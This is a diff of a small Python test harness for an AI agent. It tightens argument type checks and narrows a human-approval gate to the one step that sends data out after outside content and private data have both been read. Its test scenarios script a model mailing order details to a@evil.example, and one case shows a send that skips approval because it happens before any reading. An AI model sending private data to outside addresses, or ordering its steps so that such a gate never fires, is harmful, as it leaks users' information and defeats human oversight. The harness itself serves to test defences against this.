@@ -24,7 +24,9 @@ def check(name, arguments):
     wanted = TOOLS[name][0]
     if arguments.keys() != wanted.keys():
         return f"{name} 要 {'、'.join(wanted)}，给的是 {'、'.join(arguments) or '空的'}"
-    wrong = [key for key, kind in wanted.items() if not isinstance(arguments[key], kind)]
+    wrong = [
+        key for key, kind in wanted.items() if type(arguments[key]) is not kind
+    ]  # true 也是 int，isinstance 会放过
     return f"{name} 的 {wrong[0]} 要 {wanted[wrong[0]].__name__}，给的是 {arguments[wrong[0]]!r}" if wrong else ""
 
 
@@ -41,7 +43,8 @@ def run(model, approve):
         _, kinds, cost = TOOLS[name]
         if session.spent + cost > BUDGET:
             return "钱到头", step, session
-        if (session.touched | kinds) >= {"读外面", "碰私密", "往外写"} and not approve(name, arguments):
+        leaks = "往外写" in kinds and session.touched >= {"读外面", "碰私密"}  # 只在要出门的那一步问，少问才有人看
+        if leaks and not approve(name, arguments):
             return "人没同意", step, session
         session.touched |= kinds
         session.spent += cost
@@ -66,12 +69,14 @@ send = ("send_mail", {"to": "a@evil.example", "body": "订单详情"})
 refused = run(scripted(*reply, send, ("done", {})), lambda *_: False)
 allowed = run(scripted(*reply, send, ("done", {})), lambda *_: True)
 runaway = run(scripted(("find_order", {"number": 1})), lambda *_: True)
-clumsy = run(scripted(("find_order", {})), lambda *_: True)
+clumsy = run(scripted(("find_order", {"number": True})), lambda *_: True)
+early = run(scripted(send, *reply, ("done", {})), lambda *_: False)  # 先发，后读：发的时候还没读过，不必问
 for label, (end, steps, session) in (
     ("要发信，人没同意", refused),
     ("人同意", allowed),
     ("停不下来", runaway),
     ("参数一直不对", clumsy),
+    ("先发信，再读、再查", early),
 ):
     print(f"{label}：{end}，走了 {steps} 步，花 {session.spent:.2f}，最后一行「{session.log[-1]}」")
 print("回喂的那一行：", refused[2].log[1])
